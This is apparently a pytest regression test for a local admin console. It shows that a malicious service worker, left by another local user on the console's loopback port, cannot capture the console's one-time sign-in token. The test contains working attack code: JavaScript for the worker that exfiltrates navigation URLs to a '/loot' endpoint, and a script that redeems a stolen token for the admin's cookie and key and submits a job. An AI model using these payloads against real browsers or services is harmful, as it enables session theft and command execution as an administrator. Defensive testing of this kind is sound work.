"""A service worker that another local user's server left for the console's origin.

While Mallory (a local user, not root) serves 127.0.0.1:PORT, before the console takes it (the
fixed port of --port, or of the docs' `ssh -L 8080:...`), any page of hers the admin's browser
opens (PORT's own, or one on another port of 127.0.0.1 that frames PORT: the same site, so the
same storage) can register a service worker for http://127.0.0.1:PORT/ with scope /. It stays
in the browser's profile after her server is gone. When the admin later opens the console's
link on that origin, the worker gets the navigation before any request reaches rnx: it can pass
the one-time token to Mallory, who trades it first for the session's cookie and key, or answer
with a page of hers. Clear-Site-Data on the sign-in comes too late (the sign-in never reaches
rnx). So the console's link names an origin nobody knew before it was printed.

Mallory's servers, her redeeming of what she saw, the console and chromium share a network
namespace of the test's own (own_net: console_util.OwnNetwork), with only its loopback.
"""
import json
import queue
import shutil
import subprocess
import time
import urllib.parse
import uuid

import pytest

from test_hostile_console_cache import jobs_named, needs_browser
from console_util import Console

try:
    from selenium import webdriver
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait
except ImportError:   # pragma: no cover
    webdriver = None
CHROMIUM, DRIVER = shutil.which("chromium"), shutil.which("chromedriver")

# Mallory's worker: every navigation of its scope sends its URL (the token in it) to her other
# port, and is answered with her page
WORKER = """
self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (e) => {{
  if (e.request.mode !== "navigate") return;
  e.waitUntil(fetch("http://127.0.0.1:{loot}/loot?u=" + encodeURIComponent(e.request.url), {{mode: "no-cors"}})
    .catch(() => {{}}));
  e.respondWith(new Response("<!doctype html><title>mallory</title><p>console", {{
    headers: {{"Content-Type": "text/html"}}}}));
}});
"""
REGISTER = """<!doctype html><title>notebook</title><script>
navigator.serviceWorker.register("/sw.js", {scope: "/"})
  .then(() => navigator.serviceWorker.ready)
  .then(() => { document.title = "registered"; parent.postMessage("registered", "*"); },
        (e) => { document.title = "failed " + e; parent.postMessage("failed " + e, "*"); });
</script>"""


def looted(srv, timeout):
    """The next URL Mallory's worker sent to srv's /loot, waiting up to timeout (queue.Empty:
    none)."""
    deadline = time.monotonic() + timeout
    while True:
        r = srv.requests.get(timeout=max(0.0, deadline - time.monotonic()))
        if r["path"] == "/loot":
            return urllib.parse.parse_qs(r["query"]).get("u", [""])[0]


REDEEM = r"""
import http.client, sys, urllib.parse
url, port, mark = sys.argv[1], int(sys.argv[2]), sys.argv[3]


def redeem():
    u = urllib.parse.urlsplit(url)
    token = urllib.parse.parse_qs(u.query).get("token", [None])[0]
    if not token:
        return f"no token in {url}"
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    c.request("GET", f"/?token={token}", headers={"Host": u.netloc})
    r = c.getresponse()
    r.read()
    if r.status != 303:
        return f"sign-in {r.status}"
    cookie = r.getheader("Set-Cookie").split(";")[0]
    key = urllib.parse.parse_qs(urllib.parse.urlsplit(r.getheader("Location")).fragment)["key"][0]
    c = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    c.request("POST", "/v1/jobs", body=f'{{"command": "true", "name": "{mark}"}}',
              headers={"Host": u.netloc, "Cookie": cookie, "X-Console-Key": key, "Content-Type": "application/json"})
    r = c.getresponse()
    r.read()
    return f"submitted {r.status}"


print(redeem())
"""


def redeem(net, url, port, mark):
    """What Mallory does with a console URL her worker saw, from a process in net (where the
    console listens): its token, sent to the console's port as her own request (the Host the URL
    names), for the cookie and the key; then a job of hers submitted as the admin. The status of
    that submission, or why there was none."""
    p = subprocess.run([*net.inside, "/usr/bin/python3", "-c", REDEEM, url, str(port), mark],
                       capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr[-2000:]
    return p.stdout.strip()


@needs_browser
@pytest.mark.parametrize("lure", ["page", "frame"])
def test_a_worker_left_for_the_port_does_not_see_the_consoles_link(daemon, lure, own_net, tmp_path):
    """Mallory serves PORT and has the admin's browser register her worker there (page: the
    admin opens PORT's /; frame: a page of hers on another port frames it). She lets PORT go;
    the admin runs rnx console --port PORT and opens its link in the same profile: the page is
    the console's, her worker never sees the token, and no job of hers is submitted as root."""
    mark = "jhcw-" + uuid.uuid4().hex[:8]
    routes = str(tmp_path / "mallory-routes.json")   # both servers', read at every request
    with open(routes, "w") as f:
        json.dump({}, f)
    loot_srv = evil = drv = con = None
    try:
        loot_srv = own_net.serve(routes)
        evil = own_net.serve(routes)   # PORT: the kernel's pick in the namespace, free until taken
        port = evil.port
        with open(routes, "w") as f:
            json.dump({"/": ["text/html", REGISTER, None],
                       "/sw.js": ["text/javascript", WORKER.format(loot=loot_srv.port), None],
                       "/cats": ["text/html", f'<!doctype html><title>cats</title><script src="/cats.js"></script>'
                                 f'<iframe src="http://127.0.0.1:{port}/"></iframe>', None],
                       "/cats.js": ["text/javascript",
                                    'addEventListener("message", (e) => { document.title = e.data; });', None],
                       "/loot": ["text/plain", "", None]}, f)
        drv = own_net.browser(tmp_path, CHROMIUM, DRIVER, f"--user-data-dir={tmp_path / 'profile'}")
        drv.get(f"http://127.0.0.1:{port}/" if lure == "page" else
                f"http://127.0.0.1:{loot_srv.port}/cats")
        WebDriverWait(drv, 20).until(lambda x: x.title == "registered" or x.title.startswith("failed"))
        assert drv.title == "registered", drv.title   # the worker is in place (else this test shows nothing)
        drv.get("about:blank")
        evil.stop()

        con = Console(daemon, args=["--port", str(port)], prefix=own_net.inside)
        drv.get(con.url)
        WebDriverWait(drv, 20).until(lambda x: x.title == "mallory" or x.find_element(By.ID, "live").text == "live")
        seen = title = drv.title
        try:
            seen = looted(loot_srv, 5 if title == "mallory" else 1)
            done = redeem(own_net, seen, port, mark)
        except queue.Empty:
            done = "nothing seen"
        assert jobs_named(daemon, mark) == [], f"Mallory's worker saw {seen} and she {done}"
        assert title != "mallory", f"Mallory's worker answered the console's link ({done})"
        WebDriverWait(drv, 20).until(lambda x: x.find_element(By.ID, "who").text.endswith("(admin)"))
    finally:
        if drv:
            drv.quit()
        for srv in (loot_srv, evil):
            if srv:
                srv.stop()
        if con:
            con.stop()
